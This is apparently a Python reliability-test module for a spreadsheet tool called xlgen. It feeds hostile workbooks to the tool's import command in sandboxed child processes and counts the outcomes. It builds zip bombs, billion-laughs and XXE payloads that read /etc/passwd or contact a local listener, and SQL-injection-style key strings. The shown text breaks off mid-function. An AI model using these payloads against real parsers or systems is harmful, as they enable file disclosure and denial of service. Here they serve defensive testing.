"""Reliability trials: hostile inputs and faults thrown at xlgen, counted.

Shared by tests/test_reliability.py (small counts, for CI) and scripts/reliability.py (large
counts; writes docs/reliability.md). Every trial drives the real command line in child
processes (`python -m xlgen.cli`-equivalent, see `_ENTRY`) under a memory ceiling and a
time limit, so a zip bomb, a hang or a crash shows up as a counted outcome instead of taking
the test run down. A trial returns a `TrialResult`: how many runs, what happened how often,
which runs failed (and why), whether the store stayed intact, time and memory.

Areas:
  1. hostile workbooks given to `xlgen import`          (`hostile_workbook_trial`)
  2. formula injection through documents and imports    (`injection_trial`)
  3. parser fuzzing in-process (Hypothesis) and the CLI on random bytes
                                                         (`parser_fuzz_trial`, `cli_bytes_trial`)
  4. SIGKILL of `xlgen build` and `xlgen import`         (`build_kill_trial`, `import_kill_trial`)
  5. two `xlgen import` processes at once                (`concurrent_import_trial`)

This file is also the child program of the parser fuzz (`python reliability_trials.py
parser-fuzz ...`), so that the memory ceiling (RLIMIT_AS) and the per-document timer
(SIGALRM) apply to the parser only, never to the test process.
"""

from __future__ import annotations

import csv
import hashlib
import html
import io
import json
import os
import random
import re
import shutil
import signal
import sqlite3
import struct
import subprocess
import sys
import threading
import time
import zipfile
import zlib
from collections import Counter
from collections.abc import Callable, Iterable
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parents[1]
if str(ROOT) not in sys.path:
    sys.path.insert(0, str(ROOT))

EVAL_SEED = ROOT / "seeds" / "2019" / "004_87ab448168a45e13.txt"
PLAN_SEED = ROOT / "seeds" / "plan-seogu" / "000_927cff7e11b514e0.txt"
EVAL_SAMPLE = ROOT / "tests" / "data" / "evaluation" / "clean.txt"
PLAN_SAMPLE = ROOT / "tests" / "data" / "plan" / "spaces.txt"
KEY = "2019"
INPUT_SHEET = "Ⅲ 부서별현황"
META_SHEET = "_xlgen"
RECORDS_2019 = 244

MEMORY_CEILING = 1 << 30  # RLIMIT_AS of every child process: 1 GiB of address space
TIME_BOUND = 30.0  # seconds a refusal may take
RSS_BOUND_MB = 400.0  # peak resident memory a refusal may use
PARSE_TIME_BOUND = 5.0  # seconds per document in the parser fuzz
CLI_TIMEOUT = 60.0  # hard limit of one child process

FORMULA_PREFIXES = ("=", "+", "-", "@")
HANGUL = re.compile("[가-힣]")

# The child entry: a memory ceiling, optionally a start time (to line up concurrent runs with
# the imports already done), then exactly what the `xlgen` console script does. At exit it
# writes its peak resident memory (VmHWM: of this program only; getrusage's ru_maxrss would
# include the forking parent's) to $RELIABILITY_PEAK_FILE.
_ENTRY = (
    "import atexit, os, resource, sys, time\n"
    "limit = int(sys.argv.pop(1)); start_at = float(sys.argv.pop(1))\n"
    "peak_file = os.environ.get('RELIABILITY_PEAK_FILE')\n"
    "def report_peak():\n"
    "    with open('/proc/self/status') as fh:\n"
    "        peak = [line.split()[1] for line in fh if line.startswith('VmHWM:')]\n"
    "    with open(peak_file, 'w') as fh:\n"
    "        fh.write(peak[0] if peak else '')\n"
    "if peak_file:\n"
    "    atexit.register(report_peak)\n"
    "if limit > 0:\n"
    "    resource.setrlimit(resource.RLIMIT_AS, (limit, limit))\n"
    "from xlgen.cli import main\n"
    "if start_at > 0:\n"
    "    import openpyxl, xlgen.importer, xlgen.store  # noqa: F401 - warm up before the start\n"
    "    time.sleep(max(0.0, start_at - time.time()))\n"
    "main(sys.argv[1:])\n"
)


# =========================================================================== results


@dataclass
class TrialResult:
    """One row of the reliability table."""

    area: str
    name: str
    runs: int = 0
    outcomes: Counter = field(default_factory=Counter)
    failures: list[str] = field(default_factory=list)
    checked: int = 0  # runs after which the store (or output) was checked
    intact: int = 0  # ... and found intact
    lost: int = 0  # runs that lost or corrupted data (store values, a workbook at its path)
    max_seconds: float = 0.0
    max_rss_mb: float = 0.0
    known_bug: str | None = None  # set by the caller when a failure is a known xlgen bug
    notes: list[str] = field(default_factory=list)
    elapsed: float = 0.0  # wall time of the whole trial
    leftovers: int = 0  # temp files left behind (crash trials)
    killed_writing: int = 0  # build runs killed while a workbook was being written

    unexplained: int = 0  # failed runs not explained by a known bug
    covers: set[str] = field(
        default_factory=set
    )  # bugs (fixed or open) some variant of the case found

    def add(
        self,
        outcome: str,
        *,
        failure: str | None = None,
        seconds: float = 0.0,
        rss_mb: float = 0.0,
        bug: str | None = None,
    ) -> None:
        self.runs += 1
        self.outcomes[outcome] += 1
        if failure:
            self.failures.append(f"[{bug}] {failure}" if bug else failure)
            if bug:
                known = set(filter(None, (self.known_bug or "").split(", "))) | {bug}
                self.known_bug = ", ".join(sorted(known))
            else:
                self.unexplained += 1
        self.max_seconds = max(self.max_seconds, seconds)
        self.max_rss_mb = max(self.max_rss_mb, rss_mb)

    def store_checked(self, ok: bool, *, lost: bool = False) -> None:
        self.checked += 1
        self.intact += ok
        self.lost += lost

    @property
    def ok(self) -> bool:
        return not self.failures and self.lost == 0

    @property
    def explained(self) -> bool:
        """Every failure (if any) is a known xlgen bug, and nothing was lost."""
        return self.unexplained == 0 and self.lost == 0

    def summary(self) -> str:
        parts = [f"{n}× {o}" for o, n in self.outcomes.most_common()]
        head = f"[{self.area}] {self.name}: {self.runs} runs; " + ", ".join(parts)
        if self.failures:
            head += "\n  failures:\n" + "\n".join("    - " + f for f in self.failures[:10])
        return head


# =========================================================================== child processes


@dataclass
class Run:
    code: int  # exit code; negative: killed by that signal
    out: str
    err: str
    seconds: float
    rss_mb: float
    timed_out: bool = False

    @property
    def text(self) -> str:
        return self.out + self.err


def child_env(db: Path | None = None, **extra: str) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("XLGEN_")}
    env["PYTHONPATH"] = str(ROOT) + os.pathsep + env.get("PYTHONPATH", "")
    env["PYTHONDONTWRITEBYTECODE"] = "1"
    if db is not None:
        env["XLGEN_DB"] = str(db)
    env.update(extra)
    return env


class Child:
    """A started `xlgen` process whose stdout/stderr go to temporary files."""

    def __init__(
        self,
        args: list[str],
        *,
        db: Path | None = None,
        cwd: Path | None = None,
        memory: int = MEMORY_CEILING,
        start_at: float = 0.0,
    ) -> None:
        import tempfile

        self._out = tempfile.TemporaryFile()
        self._err = tempfile.TemporaryFile()
        fd, peak = tempfile.mkstemp(prefix="reliability-peak-")
        os.close(fd)
        self._peak = Path(peak)
        self.started = time.monotonic()
        self.proc = subprocess.Popen(
            [sys.executable, "-c", _ENTRY, str(memory), repr(start_at), *args],
            stdin=subprocess.DEVNULL,
            stdout=self._out,
            stderr=self._err,
            env=child_env(db, RELIABILITY_PEAK_FILE=peak),
            cwd=str(cwd or ROOT),
        )

    def kill(self) -> None:
        try:
            os.kill(self.proc.pid, signal.SIGKILL)
        except ProcessLookupError:
            pass

    def wait(self, timeout: float = CLI_TIMEOUT) -> Run:
        timed_out = threading.Event()

        def expire() -> None:
            timed_out.set()
            self.kill()

        timer = threading.Timer(timeout, expire)
        timer.start()
        try:
            _, status = os.waitpid(self.proc.pid, 0)
        finally:
            timer.cancel()
        seconds = time.monotonic() - self.started
        code = os.waitstatus_to_exitcode(status)
        self.proc.returncode = code  # reaped here: keep Popen from waiting again
        self._out.seek(0)
        self._err.seek(0)
        out = self._out.read().decode("utf-8", "replace")
        err = self._err.read().decode("utf-8", "replace")
        self._out.close()
        self._err.close()
        peak = self._peak.read_text().strip()
        self._peak.unlink(missing_ok=True)
        rss_mb = int(peak) / 1024 if peak else 0.0  # killed runs do not report
        return Run(code, out, err, seconds, rss_mb, timed_out.is_set())


def run_xlgen(
    args: list[str],
    *,
    db: Path | None = None,
    timeout: float = CLI_TIMEOUT,
    memory: int = MEMORY_CEILING,
    cwd: Path | None = None,
) -> Run:
    return Child(args, db=db, memory=memory, cwd=cwd).wait(timeout)


# The numeric columns of `xlgen parse --format csv` (values, not text a formula could hide in).
CSV_NUMBER_COLUMNS = ("목표", "실적", "달성률", "인쇄된 달성률", "사업 달성률", "행")


def unexpected(run: Run) -> str | None:
    """Why a finished CLI run was not a clean exit 0 / exit 1, or None."""
    if run.timed_out:
        return f"no answer within the time limit ({run.seconds:.0f} s)"
    if run.code < 0:
        return f"killed by signal {-run.code}"
    if "Traceback" in run.text:
        return "traceback: " + run.err.strip().splitlines()[-1][:160]
    if "database is locked" in run.text:
        return "'database is locked': " + run.err.strip()[:160]
    if run.code == 2:
        return "exit 2 (unexpected error): " + run.err.strip()[:200]
    if run.code not in (0, 1):
        return f"exit {run.code}: " + run.err.strip()[:200]
    if run.code == 1 and not (run.err.startswith("오류:") and HANGUL.search(run.err)):
        return "exit 1 without a Korean message: " + run.err.strip()[:200]
    return None


# =========================================================================== the bench


def sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def store_fingerprint(db: Path) -> tuple[str, int]:
    """(sha256 of the database file, size of its -wal file or -1 when there is none)."""
    wal = db.with_name(db.name + "-wal")
    return sha256(db), (wal.stat().st_size if wal.exists() else -1)


def integrity(db: Path) -> str:
    conn = sqlite3.connect(db)
    try:
        return conn.execute("PRAGMA integrity_check").fetchone()[0]
    finally:
        conn.close()


@dataclass
class Bench:
    """The store with the 2019 evaluation at revision 1 and the workbook built from it."""

    root: Path
    store: Path
    workbook: Path
    records: list[tuple[str, Any, str, str]]  # (record key, actual, note, unit), document order

    @classmethod
    def create(cls, root: Path) -> Bench:
        from xlgen.build import build
        from xlgen.store import Store

        base = root / "bench"
        if base.exists():
            shutil.rmtree(base)
        base.mkdir(parents=True)
        db = base / "store.sqlite"
        with Store.open(db) as store:
            result = build(KEY, store=store, out_dir=base / "out")
            doc = store.load(KEY)
            records = [
                (i.key, i.actual, i.note or "", i.unit) for _, _, _, i in doc.indicator_rows()
            ]
        assert not db.with_name(db.name + "-wal").exists(), "the store was not closed cleanly"
        return cls(root, db, result.path, records)

    def store_copy(self, folder: Path) -> Path:
        folder.mkdir(parents=True, exist_ok=True)
        for suffix in ("-wal", "-shm", "-journal"):
            Path(str(folder / "store.sqlite") + suffix).unlink(missing_ok=True)
        dst = folder / "store.sqlite"
        shutil.copyfile(self.store, dst)
        return dst

    @property
    def workbook_bytes(self) -> bytes:
        return self.workbook.read_bytes()


# --------------------------------------------------------------------------- workbook surgery


def sheet_parts(data: bytes) -> dict[str, str]:
    """Sheet name → zip part name, read from workbook.xml and its relationships."""
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        book = zf.read("xl/workbook.xml").decode("utf-8")
        rels = zf.read("xl/_rels/workbook.xml.rels").decode("utf-8")
    targets = {}
    for rel in re.findall(r"<Relationship\b[^>]*>", rels):
        rid = re.search(r'Id="([^"]+)"', rel)
        target = re.search(r'Target="([^"]+)"', rel)
        if rid and target:
            targets[rid.group(1)] = "xl/" + target.group(1).lstrip("/").removeprefix("xl/")
    parts = {}
    for sheet in re.findall(r"<sheet\b[^>]*>", book):
        name = re.search(r'name="([^"]*)"', sheet)
        rid = re.search(r'r:id="([^"]+)"', sheet)
        if name and rid and rid.group(1) in targets:
            parts[html.unescape(name.group(1))] = targets[rid.group(1)]
    return parts


@dataclass
class Big:
    """A part written in chunks: head + filler × n + tail (a zip bomb without the memory)."""

    head: bytes
    filler: bytes
    size: int
    tail: bytes = b""


def rewrite_zip(
    src: bytes,
    dst: Path,
    *,
    replace: dict[str, Any] | None = None,
    drop: Iterable[str] = (),
    extra: dict[str, Any] | None = None,
    level: int = 6,
) -> None:
    """Copy a zip, replacing parts by bytes, a function of the old bytes, or a `Big`."""
    replace = replace or {}
    drop = set(drop)
    with (
        zipfile.ZipFile(io.BytesIO(src)) as zin,
        zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as zout,
    ):
        items = [(i.filename, None) for i in zin.infolist() if i.filename not in drop]
        items += list((extra or {}).items())
        for name, value in items:
            if value is None:
                value = zin.read(name)
                if name in replace:
                    value = replace[name]
                    value = value(zin.read(name)) if callable(value) else value
            if isinstance(value, Big):
                info = zipfile.ZipInfo(name, (2020, 1, 1, 0, 0, 0))
                info.compress_type = zipfile.ZIP_DEFLATED  # (a ZipInfo defaults to stored)
                with zout.open(info, "w") as fh:
                    fh.write(value.head)
                    chunk = value.filler * max(1, (1 << 20) // len(value.filler))
                    left = value.size
                    while left > 0:
                        fh.write(chunk[:left])
                        left -= len(chunk)
                    fh.write(value.tail)
            else:
                info = zipfile.ZipInfo(name, (2020, 1, 1, 0, 0, 0))
                info.compress_type = zipfile.ZIP_DEFLATED
                zout.writestr(info, value, compresslevel=level)


def falsify_sizes(path: Path, part: str, declared: int, *, fix_crc: bool) -> None:
    """Make the zip headers claim `declared` bytes for `part` (and, with fix_crc, the CRC of
    its first `declared` bytes), as a zip bomb does to slip past a size check."""
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as zf:
        info = zf.getinfo(part)
        head = zf.open(part).read(declared) if fix_crc else b""
    crc = zlib.crc32(head) if fix_crc else None
    off = info.header_offset
    assert data[off : off + 4] == b"PK\x03\x04"
    data[off + 22 : off + 26] = struct.pack("<I", declared)
    if crc is not None:
        data[off + 14 : off + 18] = struct.pack("<I", crc)
    i = 0
    while (i := data.find(b"PK\x01\x02", i)) >= 0:
        n = struct.unpack("<H", data[i + 28 : i + 30])[0]
        if bytes(data[i + 46 : i + 46 + n]) == part.encode():
            data[i + 24 : i + 28] = struct.pack("<I", declared)
            if crc is not None:
                data[i + 16 : i + 20] = struct.pack("<I", crc)
        i += 4
    path.write_bytes(bytes(data))


def _prolog_split(xml: bytes) -> tuple[bytes, bytes]:
    """(the XML declaration, the rest)."""
    if xml.startswith(b"<?xml"):
        end = xml.index(b"?>") + 2
        return xml[:end], xml[end:]
    return b'<?xml version="1.0" encoding="UTF-8"?>', xml


LAUGHS = (
    b'<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        b'<!ENTITY lol%d "%s">'
        % (n, b"".join(b"&lol%s;" % (b"" if n == 2 else str(n - 1).encode()) for _ in range(10)))
        for n in range(2, 10)
    )
    + b"]>"
)


class Listener:
    """A TCP port on 127.0.0.1 that counts connections: an XML parser that fetched an
    external entity or DTD of a hostile workbook would connect here."""

    def __init__(self) -> None:
        import socket

        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.port = self.sock.getsockname()[1]
        self.hits = 0
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            self.hits += 1
            conn.close()


_LISTENER: Listener | None = None


def listener() -> Listener:
    global _LISTENER
    if _LISTENER is None:
        _LISTENER = Listener()
    return _LISTENER


def doctype(attack: str) -> tuple[bytes, bytes | None]:
    """(DOCTYPE, entity reference to use) of one attack."""
    url = f"http://127.0.0.1:{listener().port}/evil".encode()
    return {
        "billion laughs": (LAUGHS, b"&lol9;"),
        "external entity (file)": (
            b'<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
            b"&xxe;",
        ),
        "external entity (http)": (
            b'<!DOCTYPE r [<!ENTITY xxe SYSTEM "' + url + b'.xml">]>',
            b"&xxe;",
        ),
        "parameter entity": (
            b'<!DOCTYPE r [<!ENTITY % ext SYSTEM "file:///etc/passwd"> %ext;]>',
            None,
        ),
        "external DTD (http)": (b'<!DOCTYPE worksheet SYSTEM "' + url + b'.dtd">', None),
    }[attack]


def with_doctype(xml: bytes, doctype: bytes, entity: bytes | None, pad: int) -> bytes:
    """Put a DOCTYPE (after `pad` bytes of comment) into a part and use the entity in it."""
    decl, rest = _prolog_split(xml)
    comment = b"<!--" + b"x" * pad + b"-->" if pad else b""
    if entity is not None:
        # Use the entity in the first text node (or as a text node of the root element).
        if b"<t>" in rest:
            rest = rest.replace(b"<t>", b"<t>" + entity, 1)
        elif b"<sheetData>" in rest:
            rest = rest.replace(
                b"<sheetData>",
                b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>'
                + entity
                + b"</t></is></c></row>",
                1,
            )
        else:
            m = re.search(rb"<[A-Za-z][^>]*?>", rest)
            if m and not m.group(0).endswith(b"/>"):
                rest = rest[: m.end()] + entity + rest[m.end() :]
    return decl + comment + doctype + rest


def edit_workbook(
    src: Path,
    dst: Path,
    *,
    actual: dict[str, Any] | None = None,
    note: dict[str, Any] | None = None,
    note_formula: dict[str, str] | None = None,
    keys: dict[str, Any] | None = None,
    meta: dict[str, Any] | None = None,
    meta_keys: dict[str, str] | None = None,
    action: Callable[[Any], None] | None = None,
) -> None:
    """Edit a built workbook as staff (or an attacker) would, with openpyxl.

    actual / note: record key → new value (a note is written as a text cell even when it
    starts with "="); note_formula: record key → formula; keys: record key → new hidden key;
    meta: _xlgen field → new value; meta_keys: record key in _xlgen → new key.
    """
    import openpyxl

    from xlgen.layouts import eval_departments as dep

    wb = openpyxl.load_workbook(src)
    ws = wb[INPUT_SHEET]
    rows = {}
    for row in ws.iter_rows(min_row=dep.FIRST_DATA_ROW + 1):
        value = row[dep.KEY].value
        if isinstance(value, str) and value.strip():
            rows[value.strip()] = row[0].row
    for rk, value in (actual or {}).items():
        ws.cell(rows[rk], dep.ACTUAL + 1).value = value
    for rk, value in (note or {}).items():
        c = ws.cell(rows[rk], dep.NOTE + 1)
        c.value = value
        if isinstance(value, str):
            c.data_type = "s"  # text, even when it starts with "="
    for rk, formula in (note_formula or {}).items():
        ws.cell(rows[rk], dep.NOTE + 1).value = formula  # openpyxl stores "=..." as a formula
    for rk, value in (keys or {}).items():
        ws.cell(rows[rk], dep.KEY + 1).value = value
    if meta or meta_keys:
        ms = wb[META_SHEET]
        for row in ms.iter_rows():
            if row[0].value in (meta or {}):
                row[1].value = meta[row[0].value]
            elif row[0].value in (meta_keys or {}):
                row[0].value = meta_keys[row[0].value]
    if action:
        action(wb)
    wb.save(dst)


# =========================================================================== 1. hostile workbooks


@dataclass
class Expect:
    """What an import of a hostile-but-valid workbook must do instead of refusing it:
    apply exactly these values ((record key, "actual" | "note") → value) and nothing else,
    and print warnings containing each of `warnings` (and none containing `unwanted`)."""

    values: dict[tuple[str, str], Any]
    warnings: list[str] = field(default_factory=list)
    unwanted: list[str] = field(default_factory=list)


@dataclass
class HostileCase:
    name: str
    variants: list[str]
    # Writes the file; returns an Expect when the import must apply it rather than refuse.
    make: Callable[[random.Random, Bench, Path, str], Expect | None]
    known_bug: dict[str, str] | Callable[[str], str | None] = field(default_factory=dict)
    slow: bool = False
    timeout: float = CLI_TIMEOUT  # per run (a hang costs this much)
    max_runs: int | None = None  # cap for the script (hangs are expensive)
    # Variants that are valid workbooks with nothing to import (empty rows, a value far
    # outside the columns the import reads): taking them with "변경 없음", the store
    # untouched and within the bounds, is as right as refusing them.
    may_accept: frozenset[str] = frozenset()
    # Damages the trial's store before the runs (the import must refuse it, untouched).
    damage_store: Callable[[Path], None] | None = None

    def bug(self, variant: str) -> str | None:
        """The known xlgen bug (key of BUGS) this variant runs into, if any."""
        if callable(self.known_bug):
            return self.known_bug(variant)
        return self.known_bug.get(variant)


def _dtd_bug(variant: str) -> str | None:
    # Behind a comment longer than the 4 KB that check_container looks at, a DOCTYPE is seen
    # only by a parser: defusedxml stops entity declarations, but a bare external DTD (and any
    # DTD in a part openpyxl never parses) goes through.
    if variant.endswith("after a 4 KB comment") and (
        variant.startswith("external DTD") or ": root rels" in variant
    ):
        return "B4"
    return None


def _xml_parts(data: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return [n for n in zf.namelist() if n.endswith((".xml", ".rels"))]


def _part_of(variant: str, data: bytes) -> str:
    parts = sheet_parts(data)
    return {
        "input sheet": parts[INPUT_SHEET],
        "_xlgen sheet": parts[META_SHEET],
        "sharedStrings": "xl/sharedStrings.xml",
        "styles": "xl/styles.xml",
        "workbook.xml": "xl/workbook.xml",
        "[Content_Types]": "[Content_Types].xml",
        "core properties": "docProps/core.xml",
        "workbook rels": "xl/_rels/workbook.xml.rels",
        "root rels": "_rels/.rels",
    }[variant]


def _make_bomb(rng, bench, dst, variant):
    data = bench.workbook_bytes
    part = _part_of(variant, data)
    size = rng.randint(120, 400) << 20
    head, _ = _prolog_split(zipfile.ZipFile(io.BytesIO(data)).read(part))
    rewrite_zip(
        data,
        dst,
        replace={part: Big(head + b"<x>", rng.choice([b" ", b"0", b"<a/>"]), size, b"</x>")},
        level=9,
    )


def _make_ratio_bomb(rng, bench, dst, variant):
    data = bench.workbook_bytes
    part = _part_of(variant, data)
    old = zipfile.ZipFile(io.BytesIO(data)).read(part)
    head, rest = _prolog_split(old)
    size = rng.randint(2, 60) << 20
    # Valid XML: the original part with a huge run of whitespace inside the root element.
    root_end = rest.index(b">") + 1
    rewrite_zip(
        data, dst, replace={part: Big(head + rest[:root_end], b" ", size, rest[root_end:])}, level=9
    )


def _make_lying_bomb(rng, bench, dst, variant):
    data = bench.workbook_bytes
    part = _part_of(variant.split(", ")[0], data)
    size = rng.randint(150, 300) << 20
    old = zipfile.ZipFile(io.BytesIO(data)).read(part)
    head, rest = _prolog_split(old)
    root_end = rest.index(b">") + 1
    rewrite_zip(
        data, dst, replace={part: Big(head + rest[:root_end], b" ", size, rest[root_end:])}, level=9
    )
    falsify_sizes(dst, part, rng.randint(50_000, 900_000), fix_crc=variant.endswith("CRC too"))


def _make_doctype(rng, bench, dst, variant):
    """variant: "<attack>: <part>, <where the DTD is>"."""
    data = bench.workbook_bytes
    attack, _, rest = variant.partition(": ")
    where, _, padding = rest.partition(", ")
    dtd, entity = doctype(attack)
    part = _part_of(where, data)
    pad = rng.randint(4100, 20000) if padding == "DTD after a 4 KB comment" else 0
    rewrite_zip(data, dst, replace={part: lambda old: with_doctype(old, dtd, entity, pad)})


def _make_pi_flood(rng, bench, dst, variant):
    """A prolog of many "<?" without "?>" (then the original part): legal bytes to put in
    a zip, malformed XML, and a pathological input for a regex-based prolog scan."""
    data = bench.workbook_bytes
    where, _, size = variant.partition(", ")
    part = _part_of(where, data)
    size = int(size.split()[0]) * 1000
    table = bytes(b"abcdefghijklmnop qrstuvwxyz"[k % 27] for k in range(256))
    noise = rng.randbytes(size).translate(table)
    flood = b"<?".join(noise[k : k + rng.randint(0, 8)] for k in range(0, size, 8))
    rewrite_zip(
        data, dst, replace={part: lambda old: _prolog_split(old)[0] + flood + _prolog_split(old)[1]}
    )


def _make_truncated(rng, bench, dst, variant):
    data = bench.workbook_bytes
    if variant == "cut anywhere":
        cut = rng.randint(1, len(data) - 1)
    elif variant == "cut in the central directory":
        start = data.rfind(b"PK\x01\x02", 0, data.rfind(b"PK\x05\x06"))
        cut = rng.randint(data.find(b"PK\x01\x02"), max(start, data.find(b"PK\x01\x02") + 1))
    else:  # "only the last bytes missing"
        cut = len(data) - rng.randint(1, 21)
    dst.write_bytes(data[:cut])


def _make_not_workbook(rng, bench, dst, variant):
    with zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zf:
        if variant == "text files":
            for i in range(rng.randint(1, 5)):
                zf.writestr(f"문서{i}.txt", "안녕하세요 " * rng.randint(1, 1000))
        elif variant == "Word document":
            zf.writestr(
                "[Content_Types].xml",
                '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
            )
            zf.writestr("word/document.xml", '<?xml version="1.0"?><w:document xmlns:w="x"/>')
        elif variant == "workbook.xml without sheets":
            zf.writestr(
                "[Content_Types].xml",
                '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
            )
            zf.writestr(
                "xl/workbook.xml",
                '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets/></workbook>',
            )
        elif variant == "empty zip":
            pass


def _make_not_zip(rng, bench, dst, variant):
    if variant == "Excel 97-2003 (.xls) renamed":
        dst.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + rng.randbytes(rng.randint(100, 5000)))
    elif variant == "CSV renamed":
        dst.write_text(
            "부서,사업,지표,실적\n총무과,사업,지표,12\n" * rng.randint(1, 50), encoding="utf-8"
        )
    elif variant == "random bytes":
        dst.write_bytes(rng.randbytes(rng.randint(0, 50_000)))
    else:  # "PK header, garbage after"
        dst.write_bytes(b"PK\x03\x04" + rng.randbytes(rng.randint(10, 5000)))


def _make_corrupt_deflate(rng, bench, dst, variant):
    data = bytearray(bench.workbook_bytes)
    part = _part_of(variant, bytes(data))
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as zf:
        info = zf.getinfo(part)
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    lo = start + min(200, info.compress_size // 4)
    for _ in range(rng.randint(1, 40)):
        i = rng.randint(lo, start + info.compress_size - 1)
        data[i] ^= rng.randint(1, 255)
    dst.write_bytes(bytes(data))


def _make_malformed_xml(rng, bench, dst, variant):
    data = bench.workbook_bytes
    part = _part_of(variant, data)

    def damage(old: bytes) -> bytes:
        how = rng.choice(["truncate", "garbage", "unclosed"])
        cut = rng.randint(len(old) // 4, len(old) - 2)
        if how == "truncate":
            return old[:cut]
        if how == "garbage":
            return old[:cut] + b"<<&&" + rng.randbytes(8).hex().encode() + old[cut:]
        return old.replace(b"</sheetData>", b"<row><c>", 1) if b"</sheetData>" in old else old[:cut]

    rewrite_zip(data, dst, replace={part: damage})


def _make_million_rows(rng, bench, dst, variant):
    data = bench.workbook_bytes
    part = _part_of(
        "input sheet" if variant != "_xlgen sheet: a million records" else "_xlgen sheet", data
    )
    rows = 1_000_000

    def grow(old: bytes) -> bytes:
        head, rest = old.split(b"<sheetData>", 1)
        body, tail = rest.split(b"</sheetData>", 1)
        last = max(int(n) for n in re.findall(rb'<row r="(\d+)"', body))
        head = re.sub(
            rb'<dimension ref="[^"]*"/>', b'<dimension ref="A1:O%d"/>' % (last + rows), head
        )
        if variant == "input sheet: a million tiny rows":

            def row(n: int) -> bytes:
                return b'<row r="%d"><c r="A%d"><v>1</v></c></row>' % (n, n)
        elif variant == "input sheet: a million empty <row/> elements":

            def row(n: int) -> bytes:
                return b'<row r="%d"/>' % n
        else:

            def row(n: int) -> bytes:
                return b'<row r="%d"><c r="A%d" t="inlineStr"><is><t>I9</t></is></c></row>' % (n, n)

        extra = b"".join(row(n) for n in range(last + 1, last + rows + 1))
        return head + b"<sheetData>" + body + extra + b"</sheetData>" + tail

    rewrite_zip(data, dst, replace={part: grow}, level=9)


def _make_wide(rng, bench, dst, variant):
    data = bench.workbook_bytes
    part = _part_of(variant, data)
    ref = rng.choice([b"A1:XFD1048576", b"A1:ZZZ1000000", b"B2:XFA900000"])

    def widen(old: bytes) -> bytes:
        old = re.sub(rb'<dimension ref="[^"]*"/>', b'<dimension ref="' + ref + b'"/>', old)
        last = ref.split(b":")[1]
        cell = b'<row r="%s"><c r="%s"><v>1</v></c></row>' % (re.sub(rb"[A-Z]", b"", last), last)
        return old.replace(b"</sheetData>", cell + b"</sheetData>", 1)

    rewrite_zip(data, dst, replace={part: widen}, level=9)


def _make_sheet_renamed(rng, bench, dst, variant):
    new = rng.choice(
        ["부서별현황", "Sheet3", "Ⅲ 부서별현황 (2)", "ⅲ 부서별현황", "_XLGEN", "xlgen"]
    )
    data = bench.workbook_bytes
    if variant.startswith("input sheet renamed"):
        old = INPUT_SHEET
    else:
        old = META_SHEET
    if variant.endswith("(in workbook.xml)"):
        rewrite_zip(
            data,
            dst,
            replace={
                "xl/workbook.xml": lambda b: b.replace(
                    f'name="{old}"'.encode(), f'name="{new}"'.encode(), 1
                )
            },
        )
    else:

        def rename(wb):
            wb[old].title = new

        edit_workbook(bench.workbook, dst, action=rename)


def _make_sheet_deleted(rng, bench, dst, variant):
    data = bench.workbook_bytes
    old = INPUT_SHEET if variant.startswith("input sheet") else META_SHEET
    if variant.endswith("(zip parts removed)"):
        parts = sheet_parts(data)
        part = parts[old]
        book = zipfile.ZipFile(io.BytesIO(data)).read("xl/workbook.xml")
        rid = re.search(rb'<sheet name="' + old.encode() + rb'"[^>]*r:id="([^"]+)"', book).group(1)
        rewrite_zip(
            data,
            dst,
            drop=[part],
            replace={
                "xl/workbook.xml": lambda b: re.sub(
                    rb'<sheet name="' + re.escape(old.encode()) + rb'"[^>]*/>', b"", b
                ),
                "xl/_rels/workbook.xml.rels": lambda b: re.sub(
                    rb'<Relationship Id="' + rid + rb'"[^>]*/>', b"", b
                ),
                "[Content_Types].xml": lambda b: re.sub(
                    rb'<Override PartName="/' + re.escape(part.encode()) + rb'"[^>]*/>', b"", b
                ),
            },
        )
    else:

        def delete(wb):
            del wb[old]

        edit_workbook(bench.workbook, dst, action=delete)


def _bad_key(rng: random.Random) -> Any:
    return rng.choice(
        [
            f"I{rng.randint(5000, 99999):04d}",
            f"I{rng.randint(245, 4999):04d}",
            "I0000",
            "X0001",
            "가나다",
            "' OR 1=1 --",
            "I" + "9" * rng.randint(20, 4000),
            rng.randint(1, 10**9),
            3.5,
        ]
    )


def _make_bad_keys(rng, bench, dst, variant):
    chosen = rng.sample(bench.records, rng.randint(1, 5))
    bad = {rk: _bad_key(rng) for rk, *_ in chosen}
    actual = {rk: (a or 0) + rng.randint(1, 9) for rk, a, *_ in chosen}
    if variant == "in the input sheet":
        edit_workbook(bench.workbook, dst, actual=actual, keys=bad)
    else:  # "in the input sheet and in _xlgen"
        text_bad = {rk: str(v) for rk, v in bad.items()}
        edit_workbook(bench.workbook, dst, actual=actual, keys=text_bad, meta_keys=text_bad)


def _make_meta_fields(rng, bench, dst, variant):
    meta = {
        "document key not in the store": {
            "key": rng.choice(["2018", "nope", "2019 ", "'; DROP TABLE documents; --"])
        },
        "revision newer than the store": {"revision": rng.randint(2, 10**6)},
        "unknown format": {"format": rng.choice(["xlgen-workbook/2", "", "other"])},
